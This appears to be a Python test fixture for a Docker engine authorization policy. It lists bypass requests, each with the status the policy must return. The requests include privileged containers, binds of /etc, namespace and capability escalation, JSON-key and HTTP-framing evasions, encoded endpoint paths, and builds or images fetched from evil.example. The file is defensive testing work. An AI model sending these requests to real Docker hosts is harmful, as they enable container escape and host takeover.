"""Roads past a policy, each of which an engine takes: what is sent, and the status that it must meet.

`{n}` in a target, a header or a body is a name of the session's. `{strong}` is a privileged container and `{bound}` a
volume that is a bind mount of /etc, both made on the bare engine; `{other}` is a container outside the policy.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.engine.wire import chunked

CREATE = "/v1.41/containers/create?name={n}"


@dataclass(frozen=True)
class Attack:
    name: str
    method: str
    target: str
    body: bytes | None = None
    statuses: tuple[int, ...] = (403,)
    headers: dict[str, str] = field(default_factory=dict)


def _create(name: str, *, statuses: tuple[int, ...] = (403,), **host_config: Any) -> Attack:
    body = {"Image": "busybox:test", "Cmd": ["true"], "HostConfig": host_config}
    return Attack(name, "POST", CREATE, json.dumps(body).encode(), statuses)


def _raw(name: str, text: str, *, statuses: tuple[int, ...] = (403,), target: str = CREATE) -> Attack:
    return Attack(name, "POST", target, text.encode(), statuses)


def _mount(name: str, **mount: Any) -> Attack:
    return _create(name, Mounts=[{"Target": "/h"} | mount])


def host_configs() -> Iterator[Attack]:
    """Powers, each by its own field."""
    yield _create("privileged", Privileged=True)
    for path in (
        "/",
        "/etc",
        "/srv/ci/../../etc",
        "//etc",
        "/srv/ci-evil",
        "/srv/ci/../ci-evil",
        "/srv//ci/..//..//etc",
        "/srv",
        "/srv/reference/a",
    ):
        yield _create(f"bind of {path}", Binds=[f"{path}:/h"])
        yield _mount(f"mount of {path}", Type="bind", Source=path)
    yield _create("bind that propagates", Binds=["/srv/ci/a:/h:rshared"])
    yield _mount(
        "volume with bind options",
        Type="volume",
        Source="{n}",
        VolumeOptions={"DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/etc"}}},
    )
    yield _mount(
        "volume with options and no driver",
        Type="volume",
        Source="{n}",
        VolumeOptions={"DriverConfig": {"Options": {"type": "none", "o": "ro,rbind", "device": "/etc"}}},
    )
    yield _mount(
        "volume over nfs",
        Type="volume",
        Source="{n}",
        VolumeOptions={
            "DriverConfig": {"Name": "local", "Options": {"type": "nfs", "o": "addr=10.0.0.1", "device": ":/x"}}
        },
    )
    yield _mount(
        "volume of another driver", Type="volume", Source="{n}", VolumeOptions={"DriverConfig": {"Name": "rclone"}}
    )
    yield _create("volume found to be a bind", Binds=["{bound}:/h"])
    yield _mount("volume found to be a bind, as a mount", Type="volume", Source="{bound}")
    yield _create("another's volume", Binds=["another:/h"])
    for space in ("PidMode", "IpcMode", "UTSMode", "UsernsMode", "CgroupnsMode", "NetworkMode"):
        yield _create(f"{space} host", **{space: "host"})
    for space in ("PidMode", "IpcMode", "NetworkMode"):
        yield _create(f"{space} of a container", **{space: "container:{strong}"})
    for capability in ("SYS_ADMIN", "CAP_SYS_ADMIN", "sys_admin", "cap_Sys_Admin", "ALL", "all", "NET_ADMIN"):
        yield _create(f"capability {capability}", CapAdd=[capability])
    yield _create(
        "device", Devices=[{"PathOnHost": "/dev/vda", "PathInContainer": "/dev/x", "CgroupPermissions": "rwm"}]
    )
    yield _create("device cgroup rule", DeviceCgroupRules=["b *:* rwm"])
    yield _create("device request", DeviceRequests=[{"Driver": "", "Count": -1, "Capabilities": [["gpu"]]}])
    for option in (
        "seccomp=unconfined",
        "seccomp:unconfined",
        "apparmor=unconfined",
        "apparmor:unconfined",
        "label=disable",
        "label:disable",
        "systempaths=unconfined",
        "no-new-privileges=false",
        "no-new-privileges:false",
    ):
        yield _create(f"security option {option}", SecurityOpt=[option])
    yield _create("unmasked paths", MaskedPaths=[])
    yield _create("writable read-only paths", ReadonlyPaths=[])
    yield _create("sysctl", Sysctls={"kernel.shm_rmid_forced": "1"})
    yield _create("runtime", Runtime="io.containerd.kata.v2")
    yield _create("cgroup parent", CgroupParent="/")
    yield _create("volumes from", VolumesFrom=["{strong}"])
    yield _create("link", Links=["{strong}:db"])
    yield _create("group", GroupAdd=["0"])
    yield _create("out-of-memory score", OomScoreAdj=-500)
    yield _create("out-of-memory killer off", OomKillDisable=True)
    yield _create("log driver", LogConfig={"Type": "syslog", "Config": {"syslog-address": "udp://10.0.0.1:514"}})
    yield _create("storage option", StorageOpt={"size": "10G"})
    yield _create("annotation", Annotations={"run.oci.keep_original_groups": "1"})
    yield _create("published port", PortBindings={"80/tcp": [{"HostIp": "", "HostPort": "8080"}]})
    yield _create("all ports published", PublishAllPorts=True)
    yield _create("a field of next year", Overlord=True)
    yield _raw("another image", '{"Image": "alpine:3"}')


def spellings() -> Iterator[Attack]:
    """The same power, written so that a careless reader misses it."""
    yield _raw("power at the top level", '{"Image": "busybox:test", "Privileged": true}')
    yield _raw("bind at the top level", '{"Image": "busybox:test", "Binds": ["/:/h"]}')
    yield _raw("namespace at the top level", '{"Image": "busybox:test", "NetworkMode": "host"}')
    yield _raw("lower case", '{"image": "busybox:test", "hostconfig": {"privileged": true}}')
    yield _raw("long s", '{"Image": "busybox:test", "Ho\u017ftConfig": {"Privileged": true}}')
    yield _raw("Kelvin sign", '{"Image": "busybox:test", "HostConfig": {"Networ\u212aMode": "host"}}')
    yield _raw("escaped key", '{"Image": "busybox:test", "HostConfig": {"\\u0050rivileged": true}}')
    yield _raw(
        "equal keys",
        '{"Image": "busybox:test", "HostConfig": {"Privileged": true}, "HostConfig": {"Memory": 67108864}}',
        statuses=(400,),
    )
    yield _raw(
        "keys equal but for case",
        '{"Image": "busybox:test", "HostConfig": {"Privileged": true}, "hostConfig": {}}',
        statuses=(400,),
    )
    yield _raw(
        "data after the value", '{"Image": "busybox:test"} {"HostConfig": {"Privileged": true}}', statuses=(400,)
    )
    yield _raw(
        "byte order mark", '\ufeff{"Image": "busybox:test", "HostConfig": {"Privileged": true}}', statuses=(400,)
    )
    yield _raw(
        "not a number", '{"Image": "busybox:test", "HostConfig": {"Memory": NaN, "Privileged": true}}', statuses=(400,)
    )
    yield _raw(
        "very deep",
        '{"Image": "busybox:test", "Labels": ' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "}",
        statuses=(400, 413),
    )
    yield _raw("no object", '["Privileged"]', statuses=(400,))
    yield Attack(
        "UTF-16",
        "POST",
        CREATE,
        '{"Image": "busybox:test", "HostConfig": {"Privileged": true}}'.encode("utf-16"),
        (400,),
    )


PRIVILEGED = b'{"Image": "busybox:test", "HostConfig": {"Privileged": true}}'


def framings() -> Iterator[Attack]:
    """The same body, delivered oddly."""
    yield Attack(
        "chunked",
        "POST",
        CREATE,
        chunked(PRIVILEGED),
        (403,),
        {"transfer-encoding": "chunked", "content-type": "application/json"},
    )
    yield Attack(
        "chunked and with a length",
        "POST",
        CREATE,
        chunked(PRIVILEGED),
        (400,),
        {"transfer-encoding": "chunked", "content-length": "5", "content-type": "application/json"},
    )
    yield Attack(
        "an encoding that is not quite chunked",
        "POST",
        CREATE,
        chunked(PRIVILEGED),
        (400, 501),
        {"transfer-encoding": "xchunked", "content-type": "application/json"},
    )
    yield Attack("a body behind a length of none", "POST", CREATE, PRIVILEGED, (400, 403), {"content-length": "0"})
    yield Attack("a type that is not JSON's", "POST", CREATE, PRIVILEGED, (400, 403), {"content-type": "text/plain"})
    yield Attack(
        "a form",
        "POST",
        CREATE,
        b"name=x&Privileged=true",
        (400,),
        {"content-type": "application/x-www-form-urlencoded"},
    )
    yield Attack(
        "a form that overrides the query",
        "POST",
        "/containers/{n}-own/rename?name={n}-x",
        b"name=another",
        (400,),
        {"content-type": "application/x-www-form-urlencoded"},
    )
    yield Attack(
        "a form in parts", "POST", CREATE, b"--b--", (400,), {"content-type": "multipart/form-data; boundary=b"}
    )
    yield Attack(
        "an upgrade of what does not hijack",
        "POST",
        CREATE,
        PRIVILEGED,
        (403,),
        {"connection": "Upgrade", "upgrade": "tcp"},
    )
    yield Attack(
        "a browser", "POST", CREATE, b'{"Image": "busybox:test"}', (403, 400), {"origin": "http://evil.example"}
    )


def targets() -> Iterator[Attack]:
    """Paths and versions that name the endpoint without spelling it."""
    for version in ("/v1.41.0", "/v1.041", "/V1.41", "/v1.22", "/v1.9", "/v1.99", "/v2.0", "/v1.41/v1.41"):
        yield Attack(f"version {version}", "POST", f"{version}/containers/create?name={{n}}", PRIVILEGED, (400, 403))
    for path in (
        "//containers/create",
        "/v1.41//containers/create",
        "/./containers/create",
        "/x/../containers/create",
        "/x/%2e%2e/containers/create",
        "/%2563ontainers/create",
        "/containers\\create",
        "/containers/create/",
        "/containers/create%00",
        "/Containers/create",
        "/containers/create;x",
    ):
        yield Attack(f"path {path}", "POST", f"{path}?name={{n}}", PRIVILEGED, (400, 403))
    for path in ("/%63ontainers/create", "/containers%2Fcreate", "http://docker/v1.41/containers/create"):
        yield Attack(f"path {path}", "POST", f"{path}?name={{n}}", PRIVILEGED, (403, 400))
    yield Attack(
        "a body on start, in an old version", "POST", "/v1.23/containers/{n}-own/start", b'{"Binds": ["/:/h"]}', (400,)
    )
    yield Attack("a body on start", "POST", "/containers/{n}-own/start", b'{"Binds": ["/:/h"]}', (400, 403))
    yield Attack("a name given twice", "POST", CREATE + "&name=other", b'{"Image": "busybox:test"}', (400,))
    yield Attack("an unknown query key", "POST", "/containers/{n}-own/start?overlord=1", None, (403,))
    yield Attack("HTTP/2 by prior knowledge", "PRI", "*", None, (400, 403, 505))
    yield Attack("an unknown method", "FROB", "/containers/create", None, (400, 403, 405))


def others() -> Iterator[Attack]:
    """Powers by other nouns."""
    options = {"type": "none", "o": "bind", "device": "/etc"}
    yield _raw("a volume that is a bind", json.dumps({"Name": "{n}", "DriverOpts": options}), target="/volumes/create")
    yield _raw(
        "a volume that is a bind, in lower case",
        json.dumps({"name": "{n}", "driveropts": options}),
        target="/volumes/create",
    )
    yield _raw("a volume of another driver", '{"Name": "{n}", "Driver": "rclone"}', target="/volumes/create")
    yield _raw(
        "a network with the default bridge's name",
        '{"Name": "{n}", "Options": {"com.docker.network.bridge.name": "docker0"}}',
        target="/networks/create",
    )
    yield _raw(
        "a network of another driver",
        '{"Name": "{n}", "Driver": "macvlan", "Options": {"parent": "eth0"}}',
        target="/networks/create",
    )
    yield _raw("the host's network, by connecting", '{"Container": "{n}-own"}', target="/networks/host/connect")
    yield _create("the host's network, by its id", NetworkMode="{host-network}")
    yield _raw(
        "the host's network, by an endpoint",
        '{"Image": "busybox:test", "NetworkingConfig": {"EndpointsConfig": {"host": {}}}}',
    )
    yield _raw("a privileged exec", '{"Cmd": ["sh"], "Privileged": true}', target="/containers/{n}-own/exec")
    yield _raw("an exec in a privileged container", '{"Cmd": ["sh"]}', target="/containers/{strong}/exec")
    yield Attack(
        "attaching to a privileged container",
        "POST",
        "/containers/{strong}/attach?stream=1&stdin=1&stdout=1",
        b"",
        (403,),
        {"connection": "Upgrade", "upgrade": "tcp"},
    )
    yield Attack(
        "attaching by websocket",
        "GET",
        "/containers/{strong}/attach/ws?stream=1&stdin=1",
        None,
        (403,),
        {
            "connection": "Upgrade",
            "upgrade": "websocket",
            "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==",
            "sec-websocket-version": "13",
        },
    )
    yield Attack(
        "files into a privileged container",
        "PUT",
        "/containers/{strong}/archive?path=/",
        b"\0" * 1024,
        (403,),
        {"content-type": "application/x-tar"},
    )
    yield Attack(
        "files out of a privileged container's bind", "GET", "/containers/{strong}/archive?path=/h/passwd", None, (403,)
    )
    yield _raw("an exec in another's container", '{"Cmd": ["sh"]}', target="/containers/{other}/exec")
    for verb in ("stop", "kill", "restart", "rename?name={n}-taken"):
        yield Attack(f"{verb.split('?')[0]} of another's container", "POST", f"/containers/{{other}}/{verb}", None)
    yield Attack("removing another's container", "DELETE", "/containers/{other}?force=1", None)
    yield Attack("a name outside the policy", "POST", "/containers/{n}-own/rename?name=another", None)
    yield Attack(
        "a build on the host's network",
        "POST",
        "/build?networkmode=host&t={n}",
        b"\0" * 1024,
        (403,),
        {"content-type": "application/x-tar"},
    )
    yield Attack("a build of what the engine fetches", "POST", "/build?remote=https://evil.example/x.git&t={n}", None)
    yield Attack(
        "a build over a trusted name",
        "POST",
        "/build?t=busybox:test",
        b"\0" * 1024,
        (403,),
        {"content-type": "application/x-tar"},
    )
    yield Attack("tagging over a trusted name", "POST", "/images/busybox:test/tag?repo=python&tag=3", None)
    yield Attack(
        "an image from a tar", "POST", "/images/load", b"\0" * 1024, (403,), {"content-type": "application/x-tar"}
    )
    yield Attack("BuildKit's tunnel", "POST", "/grpc", None, (403,), {"connection": "Upgrade", "upgrade": "h2c"})
    yield Attack("an image from a URL", "POST", "/images/create?fromSrc=http://evil.example/x.tar&repo={n}", None)
    for method, target in (
        ("POST", "/swarm/init"),
        ("POST", "/services/create"),
        ("POST", "/plugins/pull?remote=x"),
        ("POST", "/containers/prune"),
        ("GET", "/swarm/unlockkey"),
        ("POST", "/commit?container={n}-own"),
    ):
        reads_json = method == "POST" and not target.endswith("/prune")
        yield Attack(f"{method} {target}", method, target, b"{}" if reads_json else None)


ALL = [*host_configs(), *spellings(), *framings(), *targets(), *others()]
